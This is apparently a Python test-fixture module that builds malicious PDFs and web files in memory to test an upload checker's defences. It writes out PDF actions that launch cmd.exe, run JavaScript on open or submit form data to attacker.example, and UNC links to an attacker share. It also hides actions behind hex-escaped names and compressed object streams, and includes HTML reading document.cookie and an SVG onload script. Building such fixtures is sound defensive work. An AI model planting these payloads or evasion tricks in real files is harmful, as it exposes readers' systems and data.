"""Files for upload tests: good scans and every kind of bad one, built in memory."""

from __future__ import annotations

import io
import random
import re
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)


def _pdf(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def good_pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return _pdf(writer)


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript in the /Names tree (what ``add_js`` used to write)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Action"),
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hi');"),
            }
        )
    )
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("js0"), action])})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(names)}
    )
    return _pdf(writer)


def pdf_with_open_action_js() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _pdf(writer)


def pdf_with_launch_action() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _pdf(writer)


def pdf_with_page_aa() -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    page[NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/O"): DictionaryObject(
                {NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): TextStringObject("x")}
            )
        }
    )
    return _pdf(writer)


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really")
    return _pdf(writer)


def pdf_with_hex_escaped_js_name() -> bytes:
    """``/J#53`` is ``/JS`` spelled with a hex escape; the check sees through it."""
    data = pdf_with_javascript()
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def _value(value):
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, bool):
        return BooleanObject(value)
    if isinstance(value, int):
        return NumberObject(value)
    if isinstance(value, float):
        return FloatObject(value)
    if isinstance(value, list):
        return ArrayObject(_value(v) for v in value)
    if isinstance(value, dict):
        return DictionaryObject({NameObject(k): _value(v) for k, v in value.items()})
    return value


UNC = "\\\\attacker.example\\share\\x.pdf"
#: One action of each type the upload check refuses, with what makes it dangerous.
ACTIONS = {
    "/URI": {"/URI": "http://attacker.example/track"},
    "/GoToR": {"/F": UNC, "/D": [0, "/Fit"]},
    "/GoToE": {"/F": UNC, "/T": {"/R": "/C", "/N": "x.pdf"}, "/D": [0, "/Fit"]},
    "/Thread": {"/F": UNC, "/D": 0},
    "/SubmitForm": {"/F": {"/FS": "/URL", "/F": "http://attacker.example/collect"}},
    "/ImportData": {"/F": UNC},
    "/Launch": {"/F": "cmd.exe"},
    "/JavaScript": {"/JS": "app.alert(1)"},
    "/Rendition": {
        "/OP": 0,
        "/R": {
            "/S": "/MR",
            "/C": {"/S": "/MCD", "/D": {"/FS": "/URL", "/F": "http://x.example/a"}},
        },
    },
    "/RichMediaExecute": {"/CMD": {"/C": "play"}},
    "/Sound": {"/Volume": 1.0},
    "/Movie": {"/T": "clip", "/Operation": "/Play"},
    "/Hide": {"/T": "notice", "/H": True},
    "/SetOCGState": {"/State": ["/OFF"]},
    "/GoTo3DView": {"/V": 0},
}
#: Where an action can sit in a document; each is a place a reader runs it from.
PLACES = ("open", "link", "outline", "names", "field", "next")


def pdf_with_action(
    kind: str = "/URI", place: str = "open", *, by_reference: bool = False, **entries
) -> bytes:
    """A one-page PDF with an action of ``kind`` (``/S``) at ``place``: the document's
    /OpenAction, a link annotation's /A, an outline item's /A, the document-level names
    tree, a form field's /A, or the /Next of a harmless /GoTo on opening. With
    ``by_reference`` the type is an object of its own (``/S 5 0 R``)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    root = writer._root_object
    fields = ACTIONS.get(kind, {}) | entries
    action_type = writer._add_object(NameObject(kind)) if by_reference else kind
    action = writer._add_object(_value({"/S": action_type} | fields))
    rect = [50.0, 50.0, 200.0, 80.0]
    if place == "open":
        root[NameObject("/OpenAction")] = action
    elif place == "next":
        go_to = {"/S": "/GoTo", "/D": [page.indirect_reference, "/Fit"], "/Next": action}
        root[NameObject("/OpenAction")] = writer._add_object(_value(go_to))
    elif place in ("link", "field"):
        annot = {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": rect, "/A": action}
        if place == "field":
            annot |= {"/Subtype": "/Widget", "/FT": "/Btn", "/Ff": 65536, "/T": "b"}
        ref = writer._add_object(_value(annot | {"/P": page.indirect_reference}))
        page[NameObject("/Annots")] = ArrayObject([ref])
        if place == "field":
            root[NameObject("/AcroForm")] = _value({"/Fields": [ref]})
    elif place == "outline":
        outlines = writer._add_object(_value({"/Type": "/Outlines", "/Count": 1}))
        item = writer._add_object(_value({"/Title": "第1页", "/Parent": outlines, "/A": action}))
        outlines.get_object().update({NameObject("/First"): item, NameObject("/Last"): item})
        root[NameObject("/Outlines")] = outlines
    elif place == "names":
        tree = writer._add_object(_value({"/Names": ["a0", action]}))
        root[NameObject("/Names")] = _value({"/JavaScript": tree})
    else:
        raise ValueError(place)
    return _pdf(writer)


def respelled(data: bytes, old: bytes, new: bytes) -> bytes:
    """``data`` with ``old`` written as ``new`` (a PDF name escape, say), and its
    cross-reference table rebuilt for the moved objects: the file stays well formed, so a
    reader finds every object without repairing it."""
    assert old in data, old
    data = data.replace(old, new)
    table = data.rindex(b"\nxref\n") + 1
    body = data[:table]
    trailer = data[data.index(b"trailer", table) : data.rindex(b"startxref")]
    offsets = {int(m[1]): m.start(1) for m in re.finditer(rb"\n(\d+) 0 obj\n", body)}
    size = max(offsets) + 1
    rows = [b"0000000000 65535 f \n"] + [b"%010d 00000 n \n" % offsets[n] for n in range(1, size)]
    xref = b"xref\n0 %d\n" % size + b"".join(rows)
    return body + xref + trailer + b"startxref\n%d\n%%%%EOF\n" % table


def pdf_with_action_in_object_stream(action: bytes) -> bytes:
    """A PDF 1.5 file whose objects, the /OpenAction ``action`` among them, are all inside
    one compressed object stream, found through a cross-reference stream: nothing of the
    action shows in the file's bytes. pypdf does not write object streams, so the file is
    put together here."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        action,
    ]
    offsets, at = [], 0
    for obj in objects:
        offsets.append(at)
        at += len(obj) + 1
    index = b" ".join(b"%d %d" % (n, off) for n, off in enumerate(offsets, start=1)) + b"\n"
    packed = zlib.compress(index + b"\n".join(objects) + b"\n")
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    stream_at = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\n" % (
        len(index),
        len(packed),
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [(0, 0, 65535), *((2, 5, i) for i in range(4)), (1, stream_at, 0), (1, xref_at, 0)]
    table = b"".join(bytes([t]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for t, a, b in rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n" % len(table)
    out += b"stream\n" + table + b"\nendstream\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % xref_at


def scanned_pdf_with_outline(pages: int = 3) -> bytes:
    """What a scanner writes: one JPEG per page (saved by Pillow), then an outline of
    /GoTo links to the pages, a link annotation to the next page, decimal page labels, a
    /Named page turn and a transparency group: /S entries that are no danger."""
    pictures = [Image.open(io.BytesIO(image("JPEG", size=(400, 560)))) for _ in range(pages)]
    scan = io.BytesIO()
    pictures[0].save(scan, "PDF", save_all=True, append_images=pictures[1:], resolution=150)
    writer = PdfWriter(clone_from=io.BytesIO(scan.getvalue()))
    for number in range(pages):
        writer.add_outline_item(title=f"第{number + 1}页", page_number=number)
    writer.set_page_label(0, pages - 1, "/D")
    first = writer.pages[0]
    rect = [0.0, 0.0, 100.0, 40.0]
    links = [
        {"/S": "/GoTo", "/D": [writer.pages[1].indirect_reference, "/Fit"]},
        {"/S": "/Named", "/N": "/NextPage"},
    ]
    first[NameObject("/Annots")] = ArrayObject(
        writer._add_object(_value({"/Type": "/Annot", "/Subtype": "/Link", "/Rect": rect, "/A": a}))
        for a in links
    )
    first[NameObject("/Group")] = _value({"/S": "/Transparency", "/CS": "/DeviceRGB"})
    return _pdf(writer)


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt("secret", algorithm="AES-128")
    return _pdf(writer)


def image(fmt: str = "PNG", size=(800, 1100)) -> bytes:
    """A noisy picture (so it does not compress to nothing), the same for the same size."""
    noise = random.Random(size[0] * 7919 + size[1]).randbytes(size[0] * size[1] * 3)
    picture = Image.frombytes("RGB", size, noise)
    out = io.BytesIO()
    picture.save(out, format=fmt)
    return out.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(1)</script></svg>"
)
